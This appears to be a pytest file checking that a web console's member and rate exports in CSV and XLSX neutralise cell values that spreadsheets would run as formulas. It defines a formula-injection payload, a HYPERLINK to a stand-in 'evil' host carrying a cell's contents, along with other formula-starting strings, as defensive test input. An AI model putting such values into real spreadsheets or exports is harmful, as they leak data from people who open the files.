"""Issue 19.4: a name that a spreadsheet would run as a formula is written as text, CSV and Excel."""
from __future__ import annotations

import csv
import io

import openpyxl

from tests.factories import make_account, make_member, make_tree
from tests.web import console_login

EVIL = '=HYPERLINK("http://evil/?"&A1,"点此核对")'


def test_formula_cells_are_neutralised_in_csv_and_xlsx(app, session):
    from services.organisations import orgs

    tree = make_tree(session)
    make_account(session, tree.city, "beijing")
    evil_org = orgs.create_organization(session, tree.district.id, EVIL, "branch")
    make_member(session, branch=evil_org, name="张三")
    for start in ("+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"):
        orgs.create_organization(session, tree.city.id, start + "团委", "school")
    client = console_login(app, "beijing")

    rows = list(csv.reader(io.StringIO(client.get("/console/exports/members.csv").get_data(as_text=True))))
    branch_cells = [row[4] for row in rows[1:]]
    assert "'" + EVIL in branch_cells and EVIL not in branch_cells
    rates = csv.reader(io.StringIO(client.get("/console/exports/rates.csv", query_string={"org": tree.district.id})
                                   .get_data(as_text=True)))
    assert "'" + EVIL in [row[0] for row in rates]
    city_rates = list(csv.reader(io.StringIO(client.get("/console/exports/rates.csv").get_data(as_text=True))))
    names = [row[0] for row in city_rates[1:]]
    assert all(not name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    assert "'+1+1团委" in names and "'@SUM(1)团委" in names and "'=1团委" in names  # names are stripped of tabs

    book = openpyxl.load_workbook(io.BytesIO(client.get("/console/exports/members.xlsx").data))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if cell.value == EVIL]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    xml = client.get("/console/exports/rates.xlsx", query_string={"org": tree.district.id}).data
    assert b"<f>" not in xml  # no formula element anywhere in the sheet


def test_tabs_and_carriage_returns_are_neutralised_too():
    from services.reporting.exports import neutralise

    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1"
    assert neutralise("东城区") == "东城区" and neutralise(-1.5) == -1.5
